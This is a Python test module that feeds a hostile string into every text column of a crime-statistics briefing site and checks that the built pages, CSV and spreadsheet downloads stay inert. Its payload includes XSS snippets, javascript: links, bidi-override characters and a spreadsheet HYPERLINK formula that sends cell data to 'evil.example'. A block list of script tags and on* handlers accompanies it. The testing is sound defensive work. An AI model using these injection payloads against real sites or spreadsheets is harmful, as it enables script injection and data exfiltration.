"""A hostile data set: whatever its text holds, it stands on pages and in files as text and does nothing.

Each text that may be anything is replaced in a copy of ``data/``, once by markup, scripts, formulas, marks of
direction and very long words, once by harmless words with as many figures, as each figure of a text is
linked. The two pages must have the same elements and attributes.
"""

from __future__ import annotations

import ast
import base64
import csv
import hashlib
import io
import json
import os
import re
import shutil
import subprocess
import sys
from collections.abc import Callable, Iterator
from dataclasses import asdict, dataclass
from functools import cache
from pathlib import Path
from typing import Any

import html5lib
import nbformat
import openpyxl
import pytest
from conftest import BUILDS, Copy
from IPython.core.formatters import DisplayFormatter
from speed import HANGS

from helpers.data.areas import slug
from helpers.data.cells import hashed
from helpers.data.errors import DataError
from helpers.data.remarks import decided_columns, is_plain
from helpers.data.schemas import REMARKED
from helpers.data.sources import data_folder, read_reference
from helpers.pages import AreaBriefing, Method
from helpers.paths import ROOT
from helpers.publish.downloads import facts_csv, workbook
from helpers.publish.index.index_pages import Listed, render_index, script_hash
from helpers.publish.ledger import Entry
from helpers.publish.notebook import to_json
from helpers.publish.page.render import render
from helpers.publish.report import Report
from helpers.text.characters import shown

pytestmark = pytest.mark.whole

ATTACK = (
    (
        '=HYPERLINK("http://evil.example/?"&A1;"a")<script>alert(1)</script><img src=x onerror=alert(2)>'
        '" onmouseover="alert(3)" \' onfocus=\'alert(4) [a](javascript:alert(5)) [b](https://evil.example/b) '
        "![c](https://evil.example/c.png) https://evil.example/d <https://evil.example/e> **f** `g` ~~h~~ $$i$$ ${j} "
        "{{7*7}} {% raw %} </td></tr></table></details></svg></style></title></textarea>]]><!-- <svg onload=alert(6)> "
        "&lt;b&gt; &#60;script&#62; \u202eleft\u202c \u2067isolated zero\u200bwidth soft\u00adhyphen \u05e9\u05dc\u05d5\u05dd 12 "
        "\x1b[31m \x07 | a | b |\n|---|---|\n# heading\n- item\n1. item\n\n    code\n"
        + "w" * 3000
        + " ;=1+1 \ud83d\ude08end"
    )
    .encode("utf-16", "surrogatepass")
    .decode("utf-16")
)
FIGURES = re.findall(r"\b\d+\b", ATTACK)
HARMLESS = f"harmless words {' and '.join(FIGURES)}" + "\n" * ATTACK.count("\n") + " and an end"

# Text that stands before the original, or after it where the original has to be read; by table and column.
BEFORE = {
    "raw/mappa_figures": ("note",),
    "raw/missing_surveys": ("note",),
    "raw/inspections": ("question", "cause_of_concern"),
    "raw/workload": ("note",),
    "raw/disclosure_scheme": ("note",),
    "raw/sources": ("title",),
    "raw/forces": ("note",),
    "raw/published_claims": ("note",),
    "reference/readings": ("reason",),
    "reference/precedence": ("reason",),
    "reference/printed_ranks": ("printed",),
    "reference/breaks": ("reason",),
    "reference/caveats": ("caveat",),
    "reference/names": ("note",),
    "reference/measures": ("label", "definition"),
    "reference/surveys": ("label", "note"),
    "reference/assumptions": ("statement", "because", "done"),
    "reference/changes": ("change",),
    "reference/notes": ("reason",),
}
AFTER = {
    "raw/mappa_figures": ("basis",),
    "raw/rate_denominators": ("evidence",),
    "raw/derived_bounds": ("method",),
    "raw/missing_surveys": ("survey", "survey_date"),
    "raw/inspections": ("round",),
    "raw/workload": ("date", "measure"),
    "raw/disclosure_scheme": ("period",),
    "reference/series": ("basis",),
    "reference/surveys": ("survey",),
    "reference/measures": ("one", "many"),
}
# Columns whose text stands on one of the pages below, so that the test sees how it gets there.
SEEN = {
    *(
        "raw/mappa_figures note",
        "raw/mappa_figures basis",
        "raw/rate_denominators evidence",
        "raw/sources title",
    ),
    *("raw/missing_surveys note", "raw/missing_surveys survey", "raw/missing_surveys survey_date"),
    *("raw/inspections question", "raw/inspections cause_of_concern", "raw/inspections round"),
    *(
        "raw/workload date",
        "raw/workload measure",
        "raw/workload note",
        "raw/workload value",
        "raw/workload unit",
    ),
    *("raw/disclosure_scheme period", "raw/disclosure_scheme value"),
    *("raw/derived_bounds method", "reference/readings reason", "reference/precedence reason"),
    *(
        "reference/breaks reason",
        "reference/caveats caveat",
        "reference/measures label",
        "reference/measures unit",
    ),
    *(
        "reference/measures definition",
        "reference/measures many",
        "reference/surveys label",
        "reference/surveys note",
    ),
    *("reference/assumptions statement", "reference/assumptions because", "reference/assumptions done"),
    "reference/changes change",
    "reference/notes shown",
}
PAGES = (("cambridgeshire", 2023), ("cumbria", 2020), ("northumbria", 2022), ("sussex", 2023))


def mark(table: str, column: str) -> str:
    """What tells in a page from which column a text came."""
    return f"({table} {column})"


def poison(folder: Path, evil: str) -> None:
    """Write a text into every cell of the copy that may hold any."""
    becomes: dict[tuple[str, str, str], str] = {}  # of each remark, the hash of what it becomes
    dates: set[tuple[str, str, str]] = set()  # what becomes of dates that needed no decision
    for path in sorted((folder / "raw").glob("*.csv")) + sorted((folder / "reference").glob("*.csv")):
        table = f"{path.parent.name}/{path.stem}"
        with path.open(encoding="utf-8", newline="") as file:
            rows = list(csv.DictReader(file))
        for row in rows:
            before = dict(row)
            _poison_row(table, row, evil)
            if path.stem in REMARKED:
                for column in decided_columns(path.stem):
                    digest = hashed(shown(row[column]))
                    becomes[path.stem, column, hashed(before[column])] = digest
                    if is_plain(path.stem, column, before[column]) and before[column] != row[column]:
                        dates.add((path.stem, column, digest))
            if table == "reference/notes":
                row["hash"] = becomes[row["table"], row["column"], row["hash"]]
                row["shown"] = row["shown"] and f"{evil}{mark(table, 'shown')} {row['shown']}"
        if table == "reference/notes":
            kept = {"decision": "kept", "reason": "made up here"}
            rows += [
                dict.fromkeys(rows[0], "") | dict(zip(("table", "column", "hash"), one, strict=True)) | kept
                for one in sorted(dates)
            ]
        with path.open("w", encoding="utf-8", newline="") as file:
            writer = csv.DictWriter(file, list(rows[0]), lineterminator="\n")
            writer.writeheader()
            writer.writerows(rows)
        if path.parent.name == "raw":
            Copy(folder).sign(path.stem)


def _poison_row(table: str, row: dict[str, str], evil: str) -> None:
    for column in BEFORE.get(table, ()):
        if table.startswith("raw/") and not row[column]:
            continue  # a new remark would stop the reading: nobody has decided on it
        row[column] = f"{evil}{mark(table, column)} {row[column]}"
    for column in AFTER.get(table, ()):
        # The key of a survey, and of a series, is the same text in two tables.
        place = {"survey": "raw/missing_surveys", "basis": "raw/mappa_figures"}.get(column, table)
        row[column] = f"{row[column]} {mark(place, column)}{evil}"
    if table in ("raw/workload", "raw/disclosure_scheme"):
        wordy = row["unit"] == "text"
        column = "value" if wordy else "unit"
        if wordy or row["unit"] != "date":
            row[column] = f"{row[column]} {mark(table, column)}{evil}"
    if table == "reference/measures" and row["unit"] not in ("people", "per cent"):
        row["unit"] += f" {mark(table, 'unit')}{evil}"


@dataclass(frozen=True)
class World:
    """The pages and figures made from one copy of the data."""

    folder: Path
    pages: dict[str, str]
    summaries: list[dict[str, Any]]


def world(folder: Path, evil: str) -> World:
    shutil.copytree(data_folder(), folder)
    poison(folder, evil)
    pages, summaries = {}, []
    with pytest.MonkeyPatch.context() as patch:
        patch.setenv("BRIEFINGS_DATA", str(folder))
        for area, year in PAGES:
            for notebook in ("area_briefing", "method"):
                pages[f"{notebook} {area}"] = page(notebook, area, year)
            facts = [*AreaBriefing(area, year).facts, *Method(area, year).facts]
            summaries.append(
                {"title": f"{area} {evil}", "facts": [asdict(fact) for fact in facts], "headlines": []}
            )
        pages["nation"] = page("nation_briefing", "england-and-wales", 2023)
    return World(folder, pages, summaries)


def page(notebook: str, area: str, year: int) -> str:
    """The page of a notebook whose cells are run here, as a kernel would, without starting one."""
    sys.audit(BUILDS, notebook)
    nb = nbformat.read(ROOT / "notebooks" / f"{notebook}.ipynb", as_version=4)
    names: dict[str, Any] = {}
    for cell in nb.cells:
        if cell.cell_type == "code":
            parameters = "parameters" in cell.metadata.get("tags", [])
            value = run(f"area = {area!r}; year = {year}" if parameters else cell.source, names)
            cell.outputs = [] if value is None else [shown_by_jupyter(value)]
    report = Report(Path("a.ipynb"), str(year), slug(area), area, "", {})
    return render(nbformat.reads(to_json(nb), as_version=4), report)


def run(source: str, names: dict[str, Any]) -> Any:
    """Run a cell; the value of its last line, where that is an expression."""
    lines = ast.parse(source).body
    last = lines.pop() if isinstance(lines[-1], ast.Expr) else None
    exec(compile(ast.Module(lines, []), "cell", "exec"), names)  # noqa: S102 - our own notebooks
    return None if last is None else eval(compile(ast.Expression(last.value), "cell", "eval"), names)  # noqa: S307


def shown_by_jupyter(value: Any) -> nbformat.NotebookNode:
    data, metadata = formatter().format(value)
    return nbformat.v4.new_output("execute_result", data, metadata=metadata, execution_count=1)


@cache
def formatter() -> DisplayFormatter:
    return DisplayFormatter()


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> World:
    return world(tmp_path_factory.mktemp("hostile") / "data", ATTACK)


@pytest.fixture(scope="module")
def harmless(tmp_path_factory: pytest.TempPathFactory) -> World:
    return world(tmp_path_factory.mktemp("harmless") / "data", HARMLESS)


# What a browser makes of a page -----------------------------------------------------------------------------

TOLD = {"aria-label", "title", "alt", "aria-description", "content"}  # attributes that hold text


@cache
def tree(document: str) -> Any:
    return html5lib.parse(document, treebuilder="etree", namespaceHTMLElements=False)


def skeleton(document: str) -> list[tuple[str, tuple[tuple[str, str], ...]]]:
    """Every element with its attributes, in order, and the values of those that are not text for a reader."""
    return [
        (
            str(element.tag).partition("}")[2] or str(element.tag),  # without the namespace of SVG
            tuple((name, "" if name in TOLD else value) for name, value in sorted(element.attrib.items())),
        )
        for element in tree(document).iter()
        if isinstance(element.tag, str)
    ]


def words(document: str) -> str:
    return " ".join("".join(tree(document).itertext()).split())


@pytest.mark.parametrize(
    "name",
    ["nation", *(f"{notebook} {area}" for notebook in ("area_briefing", "method") for area, _ in PAGES)],
)
def test_no_element_and_no_attribute_of_a_page_is_made_from_data(
    name: str, hostile: World, harmless: World
) -> None:
    assert skeleton(hostile.pages[name]) == skeleton(harmless.pages[name])


def test_no_page_has_a_script_a_handler_or_anything_from_elsewhere(hostile: World) -> None:
    for document in hostile.pages.values():
        for tag, attributes in skeleton(document):
            assert tag not in (
                "script",
                "img",
                "iframe",
                "object",
                "embed",
                "link",
                "base",
                "form",
                "input",
                "textarea",
            )
            for name, value in attributes:
                assert not name.startswith("on")
                assert "evil.example" not in value
                assert not value.strip().lower().startswith(("javascript:", "data:text"))


def test_the_text_of_every_column_that_a_page_shows_stands_there_whole_as_text(hostile: World) -> None:
    everything = "".join(
        words(document).replace("\u2068", "").replace("\u2069", "") for document in hostile.pages.values()
    )
    attack = " ".join(shown(ATTACK).split())
    lost = {
        place
        for place in SEEN
        if f"{attack}({place})" not in everything and f"({place}){attack}" not in everything
    }
    assert lost == set()


def test_what_turns_or_hides_text_is_shown_as_its_code_and_other_scripts_are_isolated(hostile: World) -> None:
    for document in hostile.pages.values():
        seen = document.replace("\u2068", "").replace("\u2069", "")
        assert shown(seen) == seen
        assert document.count("\u2068") == document.count("\u2069")
        assert "‹U+202E›left‹U+202C›" in document
        bare = re.sub("\u2068[^\u2069]*\u2069", "", document)
        assert not re.search("[\u0590-\u08ff]", bare)


def test_the_facts_themselves_hold_nothing_that_a_terminal_obeys(hostile: World) -> None:
    text = json.dumps(hostile.summaries[0]["facts"], ensure_ascii=False)
    assert "‹U+001B›[31m" in text
    assert "\x1b" not in text
    assert "\\u001b" not in text


# Files ------------------------------------------------------------------------------------------------------


def test_no_cell_of_the_downloads_is_run_by_a_spreadsheet(hostile: World) -> None:
    found = list(csv.reader(io.StringIO(facts_csv(hostile.summaries).decode(), newline=""), strict=True))
    assert {len(row) for row in found} == {19}
    texts = [cell for row in found for cell in row if "evil.example" in cell]
    assert len(texts) > 100
    for cell in texts:
        assert not re.match(r"\s*[=+@-]", cell)
        assert not re.search(r";\s*[=+@-]", cell)
        assert "\n" not in cell


def test_no_cell_of_the_spreadsheet_is_a_formula_or_leads_elsewhere(hostile: World) -> None:
    book = openpyxl.load_workbook(io.BytesIO(workbook(ATTACK, hostile.summaries)))
    links = []
    for sheet in book:
        for cell in (cell for line in sheet.iter_rows() for cell in line if cell.value is not None):
            assert cell.data_type in ("s", "n")
            assert not re.match(r"\s*[=+@]", str(cell.value))
            links += [(cell.hyperlink.target, cell.hyperlink.location)] if cell.hyperlink else []
    assert links == [(None, f"'{sheet}'!A1") for sheet in ("Figures", "Sources", "Columns")]


# The index --------------------------------------------------------------------------------------------------


def entries(text: str) -> Iterator[Entry]:
    for name, outcome in (("a", "built"), ("b", "failed")):
        values: dict[str, Any] = dict.fromkeys(("title", "group", "reason"), text)
        yield Entry(
            folder="2023",
            slug=name,
            parameters={},
            outcome=outcome,
            seconds=0.0,
            made_from={},
            hashes={"html": "0"} if outcome == "built" else {},
            **values,
        )


def test_no_element_of_the_index_is_made_from_a_title_a_group_or_a_reason() -> None:
    attack, calm = (render_index(map(Listed, entries(shown(text)))) for text in (ATTACK, HARMLESS))
    assert skeleton(attack) == skeleton(calm)
    assert "<script>alert(1)</script>" in words(attack)


def test_a_build_from_the_hostile_data_gives_the_same_inert_page_and_index(
    hostile: World, tmp_path: Path
) -> None:
    command = [
        sys.executable,
        "-m",
        "helpers.commands.cli",
        "build",
        "cambridgeshire",
        "--year",
        "2023",
        "--out",
        str(tmp_path),
    ]
    done = subprocess.run(
        command,
        env=os.environ | {"BRIEFINGS_DATA": str(hostile.folder)},
        capture_output=True,
        text=True,
        timeout=HANGS,
    )
    assert done.returncode == 0, done.stdout + done.stderr
    built = (tmp_path / "2023" / "cambridgeshire.html").read_text(encoding="utf-8")
    assert skeleton(built) == skeleton(hostile.pages["area_briefing cambridgeshire"])
    index = (tmp_path / "index.html").read_text(encoding="utf-8")
    scripts = [element for element in tree(index).iter() if "script" in str(element.tag)]
    assert [(one.tag, one.attrib) for one in scripts] == [("script", {})]
    digest = base64.b64encode(hashlib.sha256(scripts[0].text.encode()).digest()).decode()
    assert script_hash() == f"sha256-{digest}"
    assert f"script-src 'sha256-{digest}';" in index
    assert not [name for _, attributes in skeleton(index) for name, _ in attributes if name.startswith("on")]


# What is refused instead ------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "name",
    [
        "<b>Kent</b>",
        "[Kent](https://a.example)",
        "*Kent*",
        "Kent\u202e",
        "_Kent_",
        "`Kent`",
        "=Kent",
        "www.kent.example",
        "a@b.example",
        "שלום",
    ],
)
def test_a_name_that_could_be_read_as_markup_is_refused(name: str, copy: Copy) -> None:
    path = copy.folder / "reference" / "names.csv"
    path.write_text(path.read_text(encoding="utf-8") + f"{name},Kent,area,,\n", encoding="utf-8")
    with pytest.raises(DataError, match="it must be a name of letters, digits, spaces"):
        read_reference("names", copy.folder)


def renamed(folder: Path, old: str, new: str) -> None:
    """One area by another name, in every table."""
    change: Callable[[str], str] = lambda cell: new if cell == old else cell  # noqa: E731
    for path in (*(folder / "raw").glob("*.csv"), *(folder / "reference").glob("*.csv")):
        rows = [
            [change(cell) for cell in row]
            for row in csv.reader(io.StringIO(path.read_text(encoding="utf-8")))
        ]
        with path.open("w", encoding="utf-8", newline="") as file:
            csv.writer(file, lineterminator="\n").writerows(rows)
        if path.parent.name == "raw":
            Copy(folder).sign(path.stem)


def test_a_very_long_name_of_an_area_stands_whole_on_its_page(
    copy: Copy, monkeypatch: pytest.MonkeyPatch
) -> None:
    long = (
        "Llanfairpwllgwyngyllgogerychwyrndrobwllllantysiliogogogoch & the Isles (North, 'East' and West) " * 2
        + "Area"
    )
    renamed(copy.folder, "Cambridgeshire", long)
    monkeypatch.setenv("BRIEFINGS_DATA", str(copy.folder))
    document = page("area_briefing", long, 2023)
    assert "".join(tree(document).find(".//h1").itertext()).startswith(f"{long}: registered sexual offenders")
    assert f"{long} had 987 registered sexual offenders" in words(document)
